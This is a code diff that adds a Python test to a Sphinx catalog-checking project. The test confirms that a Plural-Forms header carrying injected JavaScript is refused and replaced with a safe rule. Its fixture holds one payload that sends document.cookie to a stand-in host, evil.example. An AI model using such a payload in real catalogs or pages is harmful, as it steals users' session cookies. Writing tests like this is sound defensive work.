@@ -336,3 +336,28 @@ def test_the_corpus_is_large_and_covers_every_catalog_kind():
     kinds = [case.kind for case in CASES]
     assert len(CASES) + len(BROKEN_FILES) + 1 >= 30
     assert all(kinds.count(kind) >= 4 for kind in (PAGE, UI, SEARCH)), kinds
+
+
+def test_a_plural_rule_is_never_code_in_the_search_page(tmp_path):
+    """The search page runs the catalog's plural rule as JavaScript (Sphinx's
+    ``new Function``): a Plural-Forms header with code in it is refused, and the
+    search page's catalog gets Sphinx's own rule."""
+    from bpd.catalog_check import check_catalog
+    from bpd.catalog_guard import write_search_catalog
+
+    source = Path(__file__).parent.parent / MESSAGES / "sphinx.po"
+    path = tmp_path / MESSAGES / "sphinx.po"
+    path.parent.mkdir(parents=True)
+    evil = "nplurals=2; plural=(fetch('https://evil.example/?'+document.cookie), n != 1);"
+    path.write_text(
+        re.sub(r'"Plural-Forms: [^"]*"', f'"Plural-Forms: {evil}\\\\n"',
+               source.read_text(encoding="utf-8")),
+        encoding="utf-8",
+    )  # fmt: skip
+    checked = check_catalog(path)
+    assert any("plural expression" in problem.message for problem in checked.problems)
+    assert not checked.usable
+    write_search_catalog(checked, tmp_path / "sphinx.js")
+    script = (tmp_path / "sphinx.js").read_text(encoding="utf-8")
+    assert "evil" not in script and "fetch" not in script
+    assert '"plural_expr": "Number(n == 1 ? 0 : 1)"' in script
